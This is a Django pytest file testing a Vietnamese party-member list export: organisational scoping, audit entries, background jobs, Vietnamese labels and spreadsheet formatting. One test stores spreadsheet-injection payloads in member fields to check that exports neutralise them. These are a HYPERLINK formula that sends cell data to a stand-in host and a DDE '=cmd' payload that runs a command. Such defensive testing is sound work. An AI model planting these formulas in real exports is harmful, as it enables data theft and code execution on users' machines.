"""Exporting the member list: scoped and filtered, audited, a long list as a
background job; the files keep Vietnamese labels whatever the screen language."""

import csv as csv_module
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from members import exports
from members.imports import import_members
from members.models import Member
from members.tables import error_copy, member_rows, read_table, write_export
from organizations.models import AuditEntry, Job
from tests.factories import MemberFactory

pytestmark = pytest.mark.django_db


def test_export_is_scoped_and_filtered(org_tree, hothau_secretary, viewer, client_as):
    MemberFactory(full_name="Lù Seo Chứ", organization=org_tree.hothau_village)
    MemberFactory(full_name="Nông Văn Lợi", organization=org_tree.namdich_village)
    response = client_as(hothau_secretary).get(
        reverse("members:export"), {"format": "csv"}
    )
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    assert "Lù Seo Chứ" in text
    assert "Nông Văn Lợi" not in text
    wide = client_as(viewer).get(
        reverse("members:export"), {"format": "xlsx", "q": "nong"}
    )
    headers, rows = read_table("x.xlsx", wide.content)
    assert [r[headers.index("Họ và tên")] for r in rows] == ["Nông Văn Lợi"]


def test_every_export_is_audited(org_tree, hothau_secretary, client_as):
    MemberFactory.create_batch(2, organization=org_tree.hothau_village)
    client_as(hothau_secretary).get(
        reverse("members:export"), {"format": "csv", "sex": "female"}
    )
    entry = AuditEntry.objects.get(action="members.export")
    assert entry.actor == hothau_secretary
    assert entry.data == {"filters": {"sex": "female"}, "format": "csv", "rows": 0}


def test_a_long_export_becomes_a_job_in_the_users_scope(
    monkeypatch,
    in_process_tasks,
    org_tree,
    hothau_secretary,
    namdich_secretary,
    viewer,
    client_as,
    django_capture_on_commit_callbacks,
):
    monkeypatch.setattr(exports, "INLINE_ROWS", 2)
    MemberFactory.create_batch(3, organization=org_tree.hothau_village)
    MemberFactory(full_name="Nông Văn Lợi", organization=org_tree.namdich_village)
    client = client_as(hothau_secretary)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get(reverse("members:export"), {"format": "xlsx"})
    job = Job.objects.get(kind=exports.EXPORT_KIND)
    assert response["Location"] == job.get_absolute_url()
    job.refresh_from_db()
    assert (job.status, job.organization) == (Job.Status.DONE, org_tree.hothau)
    assert job.summary == "Đã xuất 3 đảng viên."
    page = client.get(job.get_absolute_url()).content.decode()
    assert "Xuất danh sách đảng viên" in page
    assert "Đã xuất 3 đảng viên." in page
    url = reverse("organizations:job_download", args=[job.pk])
    download = client.get(url)
    headers, rows = read_table("x.xlsx", b"".join(download.streaming_content))
    assert len(rows) == 3
    assert "Nông Văn Lợi" not in {r[headers.index("Họ và tên")] for r in rows}
    assert client_as(namdich_secretary).get(url).status_code == 404
    # A read-only role exports too; the short list comes at once.
    short = client_as(viewer).get(reverse("members:export"), {"q": "nong"})
    assert short["Content-Disposition"].endswith('.xlsx"')
    assert AuditEntry.objects.filter(action="members.export").count() == 2


def test_files_use_vietnamese_choices_whatever_the_screen_language(org_tree):
    from django.utils import translation

    MemberFactory(organization=org_tree.hothau_village, religion="buddhism")
    members = Member.objects.select_related("organization", "ethnicity")
    with translation.override("en"):
        content = write_export("csv", member_rows(members))
    headers, rows = read_table("x.csv", content)
    assert rows[0][headers.index("Tôn giáo")] == "Phật giáo"
    assert rows[0][headers.index("Trạng thái")] == "Chính thức"


# Free text a spreadsheet would run (a name cannot hold it: names are letters).
FORMULAS = {
    "birth_place": '=HYPERLINK("http://example.invalid/?d="&A1,"Bấm vào đây")',
    "permanent_address": "=cmd|' /C calc'!A0",
    "temporary_address": "@SUM(1+1)",
    "occupation": "+84 912 345 678",
}


def test_text_a_spreadsheet_would_run_is_neutralized_and_imports_back_unchanged(
    org_tree, hothau_secretary, client_as
):
    MemberFactory(
        organization=org_tree.hothau_village,
        cccd="002098001234",
        birth_date=datetime.date(1998, 1, 2),
        sex=Member.Sex.MALE,
        **FORMULAS,
    )
    client = client_as(hothau_secretary)
    csv = client.get(reverse("members:export"), {"format": "csv"}).content
    cells = next(
        csv_module.reader(io.StringIO(csv.decode("utf-8-sig").splitlines()[1]))
    )
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
    assert "'" + FORMULAS["birth_place"] in cells
    xlsx = client.get(reverse("members:export"), {"format": "xlsx"}).content
    sheet = load_workbook(io.BytesIO(xlsx)).active
    assert "f" not in {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert FORMULAS["birth_place"] in [cell.value for cell in sheet[2]]
    for name, content in (("m.csv", csv), ("m.xlsx", xlsx)):
        result = import_members(name, content, by=hothau_secretary)
        assert (result.created, result.updated, result.unchanged) == (0, 0, 1), (
            result.error_lines()
        )
    member = Member.objects.get(cccd="002098001234")
    assert {field: getattr(member, field) for field in FORMULAS} == FORMULAS


def test_the_error_copy_of_an_import_runs_no_formula():
    copy = error_copy(["Họ và tên"], [["=1+1"], ["Lù Seo Chứ"]], {2: ["sai"]})
    sheet = load_workbook(io.BytesIO(copy)).active
    assert (sheet["A2"].value, sheet["A2"].data_type) == ("=1+1", "s")
    assert sheet["B2"].value == "sai"


def test_the_xlsx_is_a_sheet_people_can_work_in(org_tree, hothau_secretary, client_as):
    MemberFactory(
        full_name="Lù Seo Chứ",
        organization=org_tree.hothau_village,
        birth_date=datetime.date(1990, 1, 2),
    )
    response = client_as(hothau_secretary).get(
        reverse("members:export"), {"format": "xlsx"}
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    assert header[:3] == ["Mã tổ chức", "Tên tổ chức", "Họ và tên"]
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{get_column_letter(len(header))}2"
    row = dict(zip(header, sheet[2], strict=True))
    assert row["Tên tổ chức"].value == "Chi bộ thôn Tân Minh"
    born = row["Ngày sinh"]
    assert born.value.date() == datetime.date(1990, 1, 2)
    assert born.number_format == "DD/MM/YYYY"
    assert sheet.column_dimensions["C"].width >= 28
